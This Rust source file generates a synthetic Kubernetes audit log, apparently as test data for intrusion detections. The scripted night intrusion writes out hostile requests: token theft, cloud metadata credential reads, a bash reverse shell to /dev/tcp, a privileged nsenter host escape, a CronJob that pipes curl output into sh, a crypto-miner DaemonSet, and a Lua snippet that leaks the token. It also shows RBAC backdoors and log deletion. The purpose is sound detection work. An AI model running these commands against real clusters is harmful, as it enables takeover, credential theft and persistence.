//! What happens once on this day, however long the log is.
//!
//! By day the operations team does what it seldom does: it debugs a pod and a node, drains a node, makes a namespace
//! and removes another. In the forenoon somebody tries the API server from the internet. At night a stolen token of
//! the storefront is used: a look at what it may do, refusal after refusal, a way into a pod with a better token,
//! and from there everything an intruder does to read secrets, to get to the nodes, to stay, and to hide.
//!
//! Every act is here because some detection is about it; the tests count on each of them.

use std::rc::Rc;

use serde_json::{Value, json};

use super::actors::people;
use super::bodies::{self, kind};
use super::clock::{HOUR, MILLISECOND, MINUTE, Micros, SECOND, time};
use super::cluster::{APPLICATION_NAMESPACES, anonymous, service_account};
use super::day::Day;
use super::event::{Caller, Request, Resource};

/// Where the visitor of the forenoon comes from (RFC 5737, like all public addresses here).
pub(super) const SCANNER: &str = "192.0.2.44";
/// Where the stolen tokens are used from.
pub(super) const INTRUDER: &str = "192.0.2.77";

/// Schedules the whole story. The log must have room for some 250 events.
pub(super) fn schedule(day: &mut Day) {
    operations(day);
    scan(day);
    let mut night = Script { clock: day.at(18 * HOUR + 21 * MINUTE) };
    stolen_token(day, &mut night);
    better_token(day, &mut night);
    persistence(day, &mut night);
    traces(day, &mut night);
}

/// Requests one after the other, at a person's or a script's pace.
struct Script {
    clock: Micros,
}

impl Script {
    /// The next request, `pause` after the last.
    fn then(&mut self, day: &mut Day, pause: Micros, request: Request) {
        let jitter = day.rng.below(400) * MILLISECOND + day.rng.below(1_000);
        self.clock += pause + jitter;
        day.send_at(self.clock, request);
    }

    /// Creates an object that the API server accepts.
    fn create(
        &mut self,
        day: &mut Day,
        caller: &Rc<Caller>,
        resource: Resource,
        namespace: &str,
        name: &str,
        content: Value,
    ) {
        let sent = bodies::fresh(resource, namespace, name, content);
        let stored = bodies::stored(resource, &sent, day.cluster.write(), self.clock, "kubectl-create");
        let request = Request::new(caller, "create", resource).namespace(namespace).name(name);
        let request =
            request.query("fieldManager=kubectl-create&fieldValidation=Strict").send(sent).answer(stored);
        self.then(day, 20 * SECOND, request.latency(11 * MILLISECOND));
    }

    /// Patches an object with a merge patch; `content` is what the object has after it.
    fn patch(
        &mut self,
        day: &mut Day,
        caller: &Rc<Caller>,
        resource: Resource,
        namespace: &str,
        name: &str,
        content: Value,
    ) {
        let sent = bodies::fresh(resource, namespace, name, content.clone());
        let stored = bodies::stored(resource, &sent, day.cluster.write(), self.clock, "kubectl-patch");
        let request = Request::new(caller, "patch", resource)
            .namespace(namespace)
            .name(name)
            .query("fieldManager=kubectl-patch");
        self.then(day, 20 * SECOND, request.send(content).answer(stored).latency(9 * MILLISECOND));
    }

    fn delete(
        &mut self,
        day: &mut Day,
        pause: Micros,
        caller: &Rc<Caller>,
        resource: Resource,
        namespace: &str,
        name: &str,
    ) {
        let request = Request::new(caller, "delete", resource).namespace(namespace).name(name);
        let answer = bodies::deleted(resource, namespace, name);
        self.then(day, pause, request.send(bodies::delete_options()).answer(answer).latency(8 * MILLISECOND));
    }
}

/// The first pod of a workload: its name.
fn first_pod(day: &Day, namespace: &str, name: &str) -> String {
    let workload = &day.cluster.workloads[day.cluster.find(namespace, name)];
    workload.pods.first().map_or_else(String::new, |pod| pod.name.clone())
}

/// A pod with one container that sleeps.
fn simple_pod(container: &str, spec: Value) -> Value {
    let mut pod = json!({
        "spec": {
            "containers": [{
                "name": container, "image": "registry.example.com/tools/shell:1.4",
                "command": ["sleep", "86400"],
                "resources": {},
                "imagePullPolicy": "IfNotPresent",
            }],
            "restartPolicy": "Never",
        },
        "status": {},
    });
    bodies::extend(&mut pod["spec"], spec);
    pod
}

/// What the operations team does on this day and not on every day.
fn operations(day: &mut Day) {
    let wei = Rc::clone(&day.cluster.callers.people[0]);
    let shared = Rc::clone(&day.cluster.callers.people[1]);
    let mut script = Script { clock: day.at(2 * HOUR + 4 * MINUTE) };

    // kubectl debug: an ephemeral container in a running pod, then attach to it.
    let pod = first_pod(day, "payments", "ledger");
    let debug = json!({
        "spec": {
            "ephemeralContainers": [{
                "name": "debugger-x7k2p", "image": "registry.example.com/tools/shell:1.4", "stdin": true,
                "tty": true, "targetContainerName": "ledger",
            }],
        },
    });
    let index = day.cluster.find("payments", "ledger");
    let workload = &day.cluster.workloads[index];
    let mut answer = bodies::pod(&day.cluster, workload, &workload.pods[0], day.cluster.version());
    answer["spec"]["ephemeralContainers"] = debug["spec"]["ephemeralContainers"].clone();
    let request = |verb, subresource| {
        Request::new(&wei, verb, kind::PODS).namespace("payments").name(&pod).subresource(subresource)
    };
    script.then(day, 0, request("patch", "ephemeralcontainers").send(debug).answer(answer));
    script.then(
        day,
        4 * SECOND,
        request("get", "attach")
            .query("container=debugger-x7k2p&stdin=true&stdout=true&tty=true")
            .upgraded(190 * SECOND),
    );
    script.then(day, 5 * MINUTE, request("get", "portforward").upgraded(9 * MINUTE));

    // kubectl debug node, then the drain of that node.
    let node = day.cluster.nodes[4].name.clone();
    let debugger = format!("node-debugger-{node}-8zt4q");
    let host = json!({
        "nodeName": node, "hostPID": true, "hostIPC": true, "hostNetwork": true, "tolerations": [{ "operator": "Exists" }],
        "volumes": [{ "name": "host-root", "hostPath": { "path": "/" } }],
        "containers": [{
            "name": "debugger", "image": "registry.example.com/tools/shell:1.4", "stdin": true, "tty": true,
            "volumeMounts": [{ "name": "host-root", "mountPath": "/host" }],
        }],
    });
    script.create(day, &shared, kind::PODS, "default", &debugger, simple_pod("debugger", host));
    let cordon = json!({ "spec": { "unschedulable": true } });
    let drained = bodies::node(&day.cluster, 4, day.cluster.version(), script.clock);
    script.then(
        day,
        6 * MINUTE,
        Request::new(&shared, "patch", kind::NODES)
            .name(&node)
            .query("fieldManager=kubectl-drain")
            .send(cordon)
            .answer(drained),
    );
    for (namespace, name) in
        [("shop", "cart"), ("catalog", "search"), ("logistics", "tracker"), ("data", "redis")]
    {
        let pod = first_pod(day, namespace, name);
        let eviction = json!({
            "kind": "Eviction", "apiVersion": "policy/v1",
            "metadata": { "name": pod, "namespace": namespace, "creationTimestamp": null },
            "deleteOptions": {},
        });
        let request = Request::new(&shared, "create", kind::PODS)
            .namespace(namespace)
            .name(&pod)
            .subresource("eviction");
        script.then(
            day,
            SECOND,
            request.send(eviction).answer(json!({
                "kind": "Status", "apiVersion": "v1",
                "metadata": {},
                "status": "Success", "code": 201,
            })),
        );
    }

    // A namespace comes, one goes; its policy label is relaxed.
    script.create(day, &wei, kind::NAMESPACES, "", "returns", json!({ "spec": {}, "status": {} }));
    let relaxed = json!({ "metadata": { "labels": { "pod-security.kubernetes.io/enforce": "privileged" } } });
    let mut answer = bodies::object(kind::NAMESPACES, "", "returns", day.cluster.version(), script.clock);
    answer["metadata"]["labels"] = json!({
        "kubernetes.io/metadata.name": "returns", "pod-security.kubernetes.io/enforce": "privileged",
    });
    script.then(
        day,
        MINUTE,
        Request::new(&wei, "patch", kind::NAMESPACES)
            .name("returns")
            .query("fieldManager=kubectl-label")
            .send(relaxed)
            .answer(answer),
    );
    script.delete(day, MINUTE, &wei, kind::NAMESPACES, "", "campaign-2025");
    script.create(day, &wei, kind::SERVICE_ACCOUNTS, "returns", "returns", json!({}));
    script.create(
        day,
        &wei,
        kind::SECRETS,
        "returns",
        "mail-settings",
        json!({ "stringData": { "relay": "mail.example.com" }, "type": "Opaque" }),
    );
    let role = json!({
        "rules": [{
            "verbs": ["get", "list", "watch"], "apiGroups": [""], "resources": ["pods", "pods/log"],
        }],
    });
    script.create(day, &wei, kind::ROLES, "returns", "log-reader", role);
    let binding = json!({
        "subjects": [{
            "kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "oidc:shop-developers",
        }],
        "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "log-reader" },
    });
    script.create(day, &wei, kind::ROLE_BINDINGS, "returns", "log-reader", binding);
    let service = json!({
        "spec": {
            "type": "NodePort",
            "ports": [{ "port": 80, "targetPort": 8080, "nodePort": 30880, "protocol": "TCP" }],
            "selector": { "app.kubernetes.io/name": "returns" },
        },
        "status": { "loadBalancer": {} },
    });
    script.create(day, &wei, kind::SERVICES, "returns", "returns", service);
    let ingress = json!({
        "spec": {
            "ingressClassName": "nginx",
            "rules": [{
                "host": "returns.example.com",
                "http": {
                    "paths": [{
                        "path": "/", "pathType": "Prefix",
                        "backend": { "service": { "name": "returns", "port": { "number": 80 } } },
                    }],
                },
            }],
        },
        "status": { "loadBalancer": {} },
    });
    script.create(day, &wei, kind::INGRESSES, "returns", "returns", ingress);
    // Only asking what would happen.
    let dry = bodies::fresh(kind::DEPLOYMENTS, "returns", "returns", json!({ "spec": { "replicas": 1 } }));
    script.then(
        day,
        MINUTE,
        Request::new(&wei, "create", kind::DEPLOYMENTS)
            .namespace("returns")
            .name("returns")
            .query("dryRun=All&fieldManager=kubectl-create")
            .send(dry.clone())
            .answer(dry),
    );
    // Admission refuses what the authorizer allowed.
    let refused =
        bodies::fresh(kind::PODS, "payments", "shell", simple_pod("shell", json!({ "hostNetwork": true })));
    let request =
        Request::new(&shared, "create", kind::PODS).namespace("payments").name("shell").send(refused);
    script.then(
        day,
        MINUTE,
        request
            .rejected("violates PodSecurity \"baseline:latest\": host namespaces (hostNetwork=true)")
            .annotate("pod-security.kubernetes.io/enforce-policy", "baseline:latest"),
    );
    let request = people::dashboard_request(day);
    script.then(day, MINUTE, request);
}

/// Somebody on the internet looks for open doors, without credentials and with invented ones.
fn scan(day: &mut Day) {
    let mut script = Script { clock: day.at(3 * HOUR + 37 * MINUTE) };
    let curl = Rc::new(anonymous(SCANNER, "curl/8.5.0"));
    let hunter = Rc::new(anonymous(SCANNER, "Mozilla/5.0 (compatible; kube-hunter/0.6.8)"));
    for path in ["/version", "/healthz"] {
        script.then(day, SECOND, Request::path(&curl, "get", path));
    }
    for path in ["/", "/api", "/apis", "/openapi/v2", "/swagger.json", "/logs/", "/debug/pprof/"] {
        script.then(day, SECOND, Request::path(&hunter, "get", path).forbidden());
    }
    for resource in [kind::NAMESPACES, kind::SECRETS, kind::NODES, kind::PODS, kind::CLUSTER_ROLES] {
        script.then(day, 300 * MILLISECOND, Request::new(&hunter, "list", resource).forbidden());
    }
    let exec = Request::new(&hunter, "create", kind::PODS)
        .namespace("kube-system")
        .name("coredns")
        .subresource("exec");
    script.then(day, SECOND, exec.query("command=id&stdout=true").forbidden());
    // What anybody may read, for joining a cluster.
    let info = bodies::object(
        kind::CONFIG_MAPS,
        "kube-public",
        "cluster-info",
        day.cluster.version(),
        day.cluster.created,
    );
    let open = Rc::new(anonymous(SCANNER, "curl/8.5.0").granted(
        "RoleBinding \"kubeadm:bootstrap-signer-clusterinfo/kube-public\"",
        "Role \"kubeadm:bootstrap-signer-clusterinfo\"",
        "User \"system:anonymous\"",
    ));
    script.then(
        day,
        SECOND,
        Request::new(&open, "get", kind::CONFIG_MAPS)
            .namespace("kube-public")
            .name("cluster-info")
            .answer(info),
    );
    for _ in 0..6 {
        script.then(
            day,
            700 * MILLISECOND,
            Request::new(&curl, "list", kind::SECRETS).namespace("default").unauthenticated(),
        );
    }
    // A path that tries to leave its place.
    script.then(
        day,
        SECOND,
        Request::path(&curl, "get", "/apis/example.com/v1/%2e%2e/%2e%2e/secrets").forbidden(),
    );
}

/// The storefront's token, used from outside the cluster: what may it do?
fn stolen_token(day: &mut Day, script: &mut Script) {
    let account = |agent: &str| {
        Rc::new(service_account("shop", "storefront", &[]).from(&[INTRUDER]).agent(agent).granted(
            "RoleBinding \"storefront/shop\"",
            "Role \"storefront\"",
            "ServiceAccount \"storefront/shop\"",
        ))
    };
    let curl = account("curl/8.5.0");
    let kubectl = account("kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47");
    let old_kubectl = account("kubectl/v1.29.12 (linux/amd64) kubernetes/9253c9b");

    for namespace in ["shop", "payments", "kube-system", "default"] {
        let mut review = json!({
            "kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1",
            "metadata": { "creationTimestamp": null },
            "spec": { "namespace": namespace },
            "status": { "resourceRules": null, "nonResourceRules": null, "incomplete": false },
        });
        let request = Request::new(&kubectl, "create", kind::SELF_RULES_REVIEWS).send(review.clone());
        review["status"] = json!({
            "resourceRules": [{
                "verbs": ["create"], "apiGroups": ["authorization.k8s.io"],
                "resources": ["selfsubjectaccessreviews", "selfsubjectrulesreviews"],
            }],
            "nonResourceRules": [{ "verbs": ["get"], "nonResourceURLs": ["/healthz", "/version"] }],
            "incomplete": false,
        });
        script.then(day, 900 * MILLISECOND, request.answer(review));
    }
    for (verb, resource) in [
        ("list", "secrets"),
        ("create", "pods"),
        ("create", "pods/exec"),
        ("*", "*"),
        ("impersonate", "users"),
        ("create", "clusterrolebindings"),
        ("get", "nodes/proxy"),
        ("create", "serviceaccounts/token"),
    ] {
        let mut review = json!({
            "kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
            "metadata": { "creationTimestamp": null },
            "spec": {
                "resourceAttributes": { "namespace": "kube-system", "verb": verb, "resource": resource },
            },
            "status": { "allowed": false },
        });
        let request = Request::new(&kubectl, "create", kind::SELF_ACCESS_REVIEWS).send(review.clone());
        review["status"] = json!({ "allowed": resource == "pods/exec" });
        script.then(day, 600 * MILLISECOND, request.answer(review));
    }
    // Refusal after refusal.
    for namespace in ["payments", "data", "kube-system", "argocd", "monitoring", "cert-manager", "catalog"] {
        for resource in [kind::SECRETS, kind::CONFIG_MAPS, kind::PODS] {
            script.then(
                day,
                350 * MILLISECOND,
                Request::new(&curl, "list", resource).namespace(namespace).query("limit=500").forbidden(),
            );
        }
    }
    script.then(day, SECOND, Request::new(&curl, "list", kind::SECRETS).forbidden());
    // One door is open: exec in its own namespace.
    let pod = first_pod(day, "shop", "legacy-admin");
    let exec =
        |command: &str, verb| {
            let caller = if verb == "get" { &kubectl } else { &old_kubectl };
            Request::new(caller, verb, kind::PODS).namespace("shop").name(&pod).subresource("exec").query(
                format!("{command}&container=legacy-admin&stderr=true&stdin=true&stdout=true&tty=true"),
            )
        };
    script.then(day, 40 * SECOND, exec("command=id", "get").upgraded(SECOND));
    script.then(
        day,
        10 * SECOND,
        exec("command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken", "get")
            .upgraded(SECOND),
    );
    script.then(day, 10 * SECOND, exec("command=curl&command=-s&command=http%3A%2F%2F100.100.100.200%2Flatest%2Fmeta-data%2Fram%2Fsecurity-credentials%2F", "get").upgraded(2 * SECOND));
    script.then(
        day,
        30 * SECOND,
        exec(
            "command=sh&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F192.0.2.77%2F4444+0%3E%261",
            "create",
        )
        .upgraded(47 * MINUTE),
    );
}

/// The account of the pod that was broken into: far too much is granted to it.
fn deployer() -> Rc<Caller> {
    Rc::new(
        service_account("shop", "legacy-admin", &[])
            .from(&[INTRUDER])
            .agent("kubectl/v1.29.12 (linux/amd64) kubernetes/9253c9b")
            .granted(
                "ClusterRoleBinding \"legacy-admin\"",
                "ClusterRole \"cluster-admin\"",
                "ServiceAccount \"legacy-admin/shop\"",
            ),
    )
}

/// With the better token: all the secrets, and a way to the nodes.
fn better_token(day: &mut Day, script: &mut Script) {
    let caller = deployer();
    let version = day.cluster.version();
    script.then(
        day,
        3 * MINUTE,
        Request::new(&caller, "list", kind::SECRETS).query("limit=500").answer(bodies::list(
            kind::SECRETS,
            version,
            Vec::new(),
        )),
    );
    for namespace in ["payments", "data", "argocd", "kube-system"] {
        script.then(
            day,
            2 * SECOND,
            Request::new(&caller, "list", kind::SECRETS).namespace(namespace).answer(bodies::list(
                kind::SECRETS,
                version,
                Vec::new(),
            )),
        );
    }
    for (index, namespace) in (0..18).zip(APPLICATION_NAMESPACES.iter().cycle()) {
        let name = format!("{namespace}-settings-{}", index / 6);
        let secret = bodies::object(kind::SECRETS, namespace, &name, version, day.cluster.created);
        script.then(
            day,
            800 * MILLISECOND,
            Request::new(&caller, "get", kind::SECRETS).namespace(namespace).name(&name).answer(secret),
        );
    }
    for resource in [kind::CLUSTER_ROLE_BINDINGS, kind::CLUSTER_ROLES, kind::ROLE_BINDINGS] {
        script.then(
            day,
            SECOND,
            Request::new(&caller, "list", resource).query("limit=500").answer(bodies::list(
                resource,
                version,
                Vec::new(),
            )),
        );
    }
    // A token that lasts a year, of an account that may do anything.
    let request = json!({
        "kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1",
        "metadata": { "creationTimestamp": null },
        "spec": { "audiences": null, "expirationSeconds": 31_536_000, "boundObjectRef": null },
        "status": { "token": "", "expirationTimestamp": null },
    });
    let mut answer = request.clone();
    answer["status"] = json!({
        "token": "invented-not-a-credential", "expirationTimestamp": time(script.clock + 365 * 24 * HOUR),
    });
    script.then(
        day,
        30 * SECOND,
        Request::new(&caller, "create", kind::SERVICE_ACCOUNTS)
            .namespace("kube-system")
            .name("clusterrole-aggregation-controller")
            .subresource("token")
            .send(request)
            .answer(answer),
    );
    // As somebody else.
    let pods = bodies::list(kind::PODS, version, Vec::new());
    script.then(
        day,
        10 * SECOND,
        Request::new(&caller, "list", kind::PODS)
            .namespace("kube-system")
            .impersonate(
                json!({ "username": "system:admin", "groups": ["system:masters", "system:authenticated"] }),
            )
            .answer(pods),
    );

    // To the nodes: through the API server's proxy, and with a pod that is the node.
    let node = day.cluster.nodes[2].name.clone();
    let curl = Rc::new(Caller { user_agent: "curl/8.5.0".into(), ..(*caller).clone() });
    let proxy =
        |verb, rest: &str| Request::new(&curl, verb, kind::NODES).name(&node).subresource("proxy").rest(rest);
    script.then(day, 20 * SECOND, proxy("get", "/pods"));
    script.then(
        day,
        20 * SECOND,
        proxy("get", "/exec/kube-system/coredns/coredns").query("command=id&output=1").upgraded(2 * SECOND),
    );
    script.then(day, 9 * SECOND, proxy("create", "/run/kube-system/coredns/coredns").query("cmd=id"));
    script.then(day, 9 * SECOND, proxy("get", "/logs/").query("query=kubelet&pattern=%24%28id%29"));
    script.then(day, 9 * SECOND, proxy("get", "/redirected").code(302));
    let coredns = first_pod(day, "kube-system", "coredns");
    let attach = Request::new(&caller, "create", kind::PODS)
        .namespace("kube-system")
        .name(&coredns)
        .subresource("attach");
    script.then(day, 20 * SECOND, attach.query("container=coredns&stdout=true").upgraded(5 * SECOND));
    let forward = Request::new(&caller, "create", kind::PODS)
        .namespace("kube-system")
        .name(&coredns)
        .subresource("portforward");
    script.then(day, 20 * SECOND, forward.upgraded(60 * SECOND));

    let escape = json!({
        "nodeName": node, "hostPID": true, "hostIPC": true, "hostNetwork": true,
        "volumes": [{ "name": "root", "hostPath": { "path": "/", "type": "" } }],
        "containers": [{
            "name": "agent", "image": "registry.example.com/tools/shell:1.4", "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
            "securityContext": {
                "privileged": true,
                "capabilities": { "add": ["SYS_ADMIN", "NET_ADMIN", "CAP_SYS_PTRACE"] },
            },
            "volumeMounts": [{ "name": "root", "mountPath": "/host" }],
        }],
    });
    script.create(day, &caller, kind::PODS, "kube-system", "metrics-agent", simple_pod("agent", escape));
    let leaky = json!({
        "securityContext": {
            "sysctls": [{ "name": "kernel.shm_rmid_forced", "value": "1+kernel.core_pattern=|/var/lib/x" }],
        },
        "volumes": [{
            "name": "repo",
            "gitRepo": { "repository": "https://git.example.com/tools/hooks.git", "directory": "work/.git" },
        }],
    });
    script.create(day, &caller, kind::PODS, "shop", "builder", simple_pod("builder", leaky));
    let socket = json!({
        "volumes": [
            { "name": "audit", "hostPath": { "path": "/var/log/kubernetes/audit" } },
            { "name": "run", "hostPath": { "path": "/run/containerd/containerd.sock" } },
        ],
    });
    script.create(day, &caller, kind::PODS, "shop", "collector", simple_pod("collector", socket));
}

/// Ways to come back.
fn persistence(day: &mut Day, script: &mut Script) {
    let caller = deployer();
    let binding = |subject: Value, role: &str| {
        json!({
            "subjects": [subject],
            "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role },
        })
    };
    let account = json!({ "kind": "ServiceAccount", "name": "metrics-sync", "namespace": "kube-system" });
    let everybody =
        json!({ "kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:unauthenticated" });
    script.create(day, &caller, kind::SERVICE_ACCOUNTS, "kube-system", "metrics-sync", json!({}));
    script.create(
        day,
        &caller,
        kind::CLUSTER_ROLE_BINDINGS,
        "",
        "metrics-sync",
        binding(account.clone(), "cluster-admin"),
    );
    script.create(
        day,
        &caller,
        kind::CLUSTER_ROLE_BINDINGS,
        "",
        "public-metrics",
        binding(everybody, "view"),
    );
    script.create(
        day,
        &caller,
        kind::ROLE_BINDINGS,
        "payments",
        "metrics-sync",
        binding(account, "cluster-admin"),
    );
    let all = json!({ "rules": [{ "verbs": ["*"], "apiGroups": ["*"], "resources": ["*"] }] });
    script.create(day, &caller, kind::CLUSTER_ROLES, "", "metrics-sync", all);
    let grants = json!({ "rules": [
        {
            "verbs": ["create", "get"], "apiGroups": [""],
            "resources": ["pods/exec", "nodes/proxy", "serviceaccounts/token"],
        },
        {
            "verbs": ["bind", "escalate", "impersonate"], "apiGroups": ["rbac.authorization.k8s.io"],
            "resources": ["clusterroles"],
        },
    ] });
    script.create(day, &caller, kind::ROLES, "shop", "support", grants.clone());
    script.patch(day, &caller, kind::CLUSTER_ROLES, "", "system:public-info-viewer", grants);
    let token = json!({
        "metadata": { "annotations": { "kubernetes.io/service-account.name": "metrics-sync" } },
        "type": "kubernetes.io/service-account-token",
    });
    script.create(day, &caller, kind::SECRETS, "kube-system", "metrics-sync-token", token);

    // A client certificate in the name of a system group.
    let signing = json!({
        "spec": {
            "request": "LS0taW52ZW50ZWQtLS0gTyA9IHN5c3RlbTptYXN0ZXJz",
            "signerName": "kubernetes.io/kube-apiserver-client", "expirationSeconds": 315_360_000,
            "usages": ["client auth"],
        },
        "status": {},
    });
    script.create(day, &caller, kind::SIGNING_REQUESTS, "", "metrics-sync", signing.clone());
    let mut approval =
        bodies::object(kind::SIGNING_REQUESTS, "", "metrics-sync", day.cluster.version(), script.clock);
    bodies::extend(&mut approval, signing);
    approval["status"] = json!({
        "conditions": [{
            "type": "Approved", "status": "True", "reason": "KubectlApprove",
            "message": "This CSR was approved by kubectl certificate approve.",
            "lastUpdateTime": time(script.clock), "lastTransitionTime": null,
        }],
    });
    let request =
        Request::new(&caller, "update", kind::SIGNING_REQUESTS).name("metrics-sync").subresource("approval");
    script.then(day, 8 * SECOND, request.send(approval.clone()).answer(approval));

    let template = json!({
        "metadata": { "labels": { "app": "metrics-agent" }, "creationTimestamp": null },
        "spec": {
            "hostNetwork": true,
            "containers": [{
                "name": "agent", "image": "registry.example.com/tools/shell:1.4",
                "args": ["-o", "stratum+tcp://pool.example.net:3333"],
                "securityContext": { "privileged": true },
            }],
        },
    });
    script.create(
        day,
        &caller,
        kind::DAEMON_SETS,
        "kube-system",
        "metrics-agent",
        json!({
            "spec": { "selector": { "matchLabels": { "app": "metrics-agent" } }, "template": template },
            "status": {},
        }),
    );
    let beacon = json!({
        "spec": {
            "schedule": "*/10 * * * *",
            "jobTemplate": {
                "metadata": { "creationTimestamp": null },
                "spec": {
                    "template": {
                        "metadata": { "creationTimestamp": null },
                        "spec": {
                            "restartPolicy": "Never",
                            "containers": [{
                                "name": "sync", "image": "registry.example.com/tools/shell:1.4",
                                "command": ["sh", "-c", "curl -s http://192.0.2.77/s | sh"],
                            }],
                        },
                    },
                },
            },
        },
        "status": {},
    });
    script.create(day, &caller, kind::CRON_JOBS, "shop", "sync", beacon);

    // Between the services and their users.
    let snippet = json!({
        "metadata": {},
        "spec": {
            "ingressClassName": "nginx",
            "rules": [{
                "host": "shop.example.com",
                "http": {
                    "paths": [{
                        "path": "/pay;", "pathType": "ImplementationSpecific",
                        "backend": { "service": { "name": "storefront", "port": { "number": 80 } } },
                    }],
                },
            }],
        },
        "status": { "loadBalancer": {} },
    });
    let mut sent = bodies::fresh(kind::INGRESSES, "shop", "pay", snippet);
    sent["metadata"] = json!({
        "name": "pay", "namespace": "shop", "creationTimestamp": null,
        "annotations": {
            "nginx.ingress.kubernetes.io/configuration-snippet": "content_by_lua_block { ngx.say(io.open(\"/var/run/secrets/kubernetes.io/serviceaccount/token\"):read(\"*a\")) }",
        },
    });
    let stored = bodies::stored(kind::INGRESSES, &sent, day.cluster.write(), script.clock, "kubectl-create");
    let request = Request::new(&caller, "create", kind::INGRESSES)
        .namespace("shop")
        .name("pay")
        .query("fieldManager=kubectl-create");
    script.then(day, 40 * SECOND, request.send(sent).answer(stored));
    let service = json!({
        "spec": {
            "type": "ClusterIP",
            "ports": [{ "port": 443, "protocol": "TCP" }],
            "externalIPs": ["198.51.100.10"],
        },
        "status": { "loadBalancer": {} },
    });
    script.create(day, &caller, kind::SERVICES, "shop", "updates", service);
    let slice = json!({
        "addressType": "IPv4",
        "endpoints": [{ "addresses": ["169.254.169.254"] }],
        "ports": [{ "port": 80, "protocol": "TCP" }],
    });
    script.create(day, &caller, kind::SLICES, "shop", "updates-1", slice);
    script.patch(
        day,
        &caller,
        kind::CONFIG_MAPS,
        "kube-system",
        "coredns",
        json!({ "data": { "Corefile": "pay.example.com { forward . 192.0.2.77 }" } }),
    );
    script.create(
        day,
        &caller,
        kind::CONFIG_MAPS,
        "shop",
        "mirror",
        json!({ "data": { "access_key": "LTAIinventedExample", "password": "invented" } }),
    );
    let hook = json!({
        "webhooks": [{
            "name": "sync.example.net",
            "clientConfig": { "url": "https://192.0.2.77/admit" },
            "rules": [{ "operations": ["*"], "apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"] }],
            "failurePolicy": "Ignore", "sideEffects": "None", "admissionReviewVersions": ["v1"],
        }],
    });
    script.create(day, &caller, kind::VALIDATING_WEBHOOKS, "", "sync", hook);
    let service = json!({
        "spec": {
            "group": "metrics.example.net", "version": "v1", "insecureSkipTLSVerify": true,
            "groupPriorityMinimum": 100, "versionPriority": 100,
            "service": { "namespace": "shop", "name": "updates" },
        },
        "status": {},
    });
    script.create(day, &caller, kind::API_SERVICES, "", "v1.metrics.example.net", service);
    let volume = json!({
        "spec": {
            "capacity": { "storage": "10Gi" },
            "accessModes": ["ReadWriteMany"],
            "hostPath": { "path": "/etc/kubernetes" },
        },
        "status": {},
    });
    script.create(day, &caller, kind::VOLUMES, "", "archive", volume);
}

/// Covering the traces, and doing damage.
fn traces(day: &mut Day, script: &mut Script) {
    let caller = deployer();
    script.delete(day, 5 * MINUTE, &caller, kind::DAEMON_SETS, "kube-system", "logtail-ds");
    for name in ["metrics-agent.18a1f3c2d4e5b607", "builder.18a1f3c2d4e5b608"] {
        script.delete(day, SECOND, &caller, kind::EVENTS, "shop", name);
    }
    let all = Request::new(&caller, "deletecollection", kind::EVENTS)
        .namespace("kube-system")
        .send(bodies::delete_options());
    let none = bodies::list(kind::EVENTS, day.cluster.version(), Vec::new());
    script.then(day, SECOND, all.answer(none));
    for index in 0..22 {
        script.delete(
            day,
            900 * MILLISECOND,
            &caller,
            kind::CLAIMS,
            "data",
            &format!("archive-kafka-{index}"),
        );
    }
    // In the morning the token is revoked, and its user finds out.
    for _ in 0..3 {
        script.then(
            day,
            20 * MINUTE,
            Request::new(&caller, "list", kind::PODS).namespace("shop").unauthenticated(),
        );
    }
}
